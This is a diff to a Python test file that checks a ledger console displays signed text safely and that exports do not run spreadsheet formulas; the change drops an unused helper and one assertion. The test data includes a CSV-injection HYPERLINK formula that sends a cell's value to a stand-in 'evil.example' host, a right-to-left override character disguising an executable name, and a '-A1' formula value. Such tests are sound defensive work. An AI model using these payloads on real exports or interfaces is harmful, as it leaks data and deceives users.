@@ -15,7 +15,7 @@ import httpx
 
 from ledger.fingerprint import FINGERPRINT_KIND
 from ledger.signing import SigningKey, sign_envelope
-from tests.support.documents import record_body, record_v2
+from tests.support.documents import record_v2
 from tests.support.harness import Harness
 from tests.support.workers import heartbeat, post_heartbeat
 
@@ -103,13 +103,11 @@ def test_signed_text_shows_as_it_is_and_exports_run_no_formula(api: Harness) -> 
     engine = {"name": "vllm", "version": "\u202egnp.exe"}  # reads "exe.png" unless shown
     fp = _fingerprint(api, key, {"schema_version": 1, "model": {"name": "m"}, "engine": engine})
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-    body = record_body(fp, model=formula, pool="-A1")
     env, disclosures = record_v2(key, fp, model=formula, pool="-A1")
     resp = api.client().post(
         "/v1/records", json={"records": [{"envelope": env.to_dict(), "disclosures": disclosures}]}
     )
     assert resp.status_code == 201, resp.text
-    assert body["model"] == formula
     c = _console(api)
     page = c.get(f"/ui/fingerprints/{fp}").text
     assert "\u202e" not in page and "[U+202E]gnp.exe" in page
